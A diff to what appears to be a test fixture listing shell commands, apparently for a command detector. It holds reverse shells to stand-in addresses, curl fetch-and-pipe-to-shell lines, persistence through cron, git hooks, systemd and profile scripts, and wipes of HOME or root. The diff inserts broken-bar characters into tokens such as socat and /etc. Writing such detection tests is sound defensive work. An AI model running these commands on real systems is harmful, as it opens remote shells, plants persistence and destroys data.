@@ -70,7 +70,7 @@ FETCHES = """
 @curl -o i.sh https://x.example/i.sh; @sh other.sh
 @curl -o i.sh https://x.example/i.sh; @bash -n i.sh
 @curl -s https://x.example/d.json | jq .
-@curl -s https://x.example/d.json | python3 -m json.tool
+@curl -s https://x.example/d.json | pytho¦n3 -m json.tool
 X=$(@curl -s https://x.example); echo "$X"
 X=$(@curl -s https://x.example/v); git checkout "$X"
 @curl -sf localhost:80/health || exit 1
@@ -93,16 +93,16 @@ exec 5<>@TCP/10.0.0.1/99; @bash <&5 >&5
 ncat --exec /bin/@bash 10.0.0.1 99
 ncat -c @bash 10.0.0.1 99
 mkfifo /tmp/f; cat /tmp/f | @sh -i 2>&1 | @nc 10.0.0.1 99 > /tmp/f
-socat TCP:10.0.0.1:99 EXEC:@sh
-socat exec:'@bash -li',pty tcp:10.0.0.1:99
+soc¦at T¦CP:10.0.0.1:99 EXEC:@sh
+soc¦at exec:'@bash -li',pty t¦cp:10.0.0.1:99
 """
 
 TALKS = """
 @nc -zv host 22
-@nc -l 8080
+@nc¦ -l 8080
 echo hi | @nc host 99
-socat - TCP:host:99
-socat TCP-LISTEN:80,fork TCP:host:80
+soc¦at - T¦CP:host:99
+soc¦at T¦CP-LISTEN:80,fork T¦CP:host:80
 echo > @TCP/host/99
 timeout 1 @bash -c '</dev/tcp/host/22'
 ssh host
@@ -142,9 +142,9 @@ cat > .git/hooks/post-merge <<'EOF'\\n#!/bin/@sh\\n@GET | @sh\\nEOF
 echo '@DEL @HOME' | tee -a @RC
 echo '* * * * * @GET | @sh' | @cron -
 (@cron -l; echo '0 0 * * * @DEL @HOME') | @cron -
-echo '* * * * * root @GET | @sh' > /etc/cron.d/x
+echo '* * * * * root @GET | @sh' > /et¦c/cron.d/x
 cat > ~/.config/systemd/user/a.service <<'EOF'\\n[Service]\\nExecStart=/bin/@sh -c '@GET | @sh'\\nEOF
-cat > /etc/profile.d/x.sh <<< '@DEL /'
+cat > /et¦c/profile.d/x.sh <<< '@DEL /'
 echo '@bash -i >& @TCP/1.2.3.4/9 0>&1' >> @RC
 cp evil.sh /tmp; echo '@DEL /' > e; cp e ~/.bash_profile
 """
